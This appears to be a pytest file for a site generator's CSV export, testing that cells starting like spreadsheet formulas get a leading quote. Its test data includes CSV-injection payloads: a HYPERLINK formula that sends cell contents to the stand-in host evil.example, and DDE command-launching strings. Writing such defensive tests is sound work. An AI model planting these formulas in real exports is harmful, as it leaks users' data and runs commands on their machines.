"""Content that tries to become code in an export: spreadsheet formulas, scripting links in raw
HTML, citations written inside code."""

from __future__ import annotations

import csv
import io
import json

import pytest

from conftest import write_tree
from dateline.exports import csv_cell
from verdict import verdicts

# Cells a spreadsheet reads as a formula (OWASP "CSV injection"), with the full-width forms some
# spreadsheets fold to ASCII.
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


def _formula_site(root):
    events = "".join(
        f"-- content/events/e{i}.md --\n---\ntitle: {json.dumps(f)}\ndate: 2019-10-{10 + i:02d}\n"
        f"place: {json.dumps(f)}\nactors: [{json.dumps(f)}]\ntags: [{json.dumps(f)}]\n"
        f"summary: {json.dumps(f)}\nsources: [s]\n---\nBody.\n"
        for i, f in enumerate(FORMULAS))
    return write_tree(root, events + "-- content/sources/s.yaml --\ntitle: S\n")


def test_csv_cells_never_start_a_formula(capsys, tmp_path):
    site = _formula_site(tmp_path / "site")
    check, build = verdicts(capsys, site)
    assert build.code == 0, build.stderr
    with open(site / "output/events.csv", encoding="utf-8", newline="") as f:
        raw = f.read()
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), (column, cell)
    titles = sorted(r["title"] for r in rows)
    assert titles == sorted("'" + f for f in FORMULAS)  # kept whole, behind the quote
    assert [r["date"] for r in rows] == [f"2019-10-{10 + i:02d}" for i in range(len(FORMULAS))]


def test_csv_leaves_ordinary_cells_alone(capsys, tmp_path):
    site = write_tree(tmp_path / "site", """
        -- content/events/a.md --
        ---
        title: "A 3-2 vote; 'quoted' = fine"
        date: 2019-10-13
        place: Geneva
        ---
        Body.
        """)
    verdicts(capsys, site)
    rows = list(csv.DictReader(io.StringIO((site / "output/events.csv").read_text(), newline="")))
    assert rows[0]["title"] == "A 3-2 vote; 'quoted' = fine"
    assert rows[0]["place"] == "Geneva"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "＝1", "＋1", "－1", "＠A1"])
def test_formula_cells_get_a_leading_quote(cell):
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Geneva", "1+1", " =1", "'=1", "A-1", "2019-10-13"])
def test_other_cells_are_kept(cell):
    assert csv_cell(cell) == cell
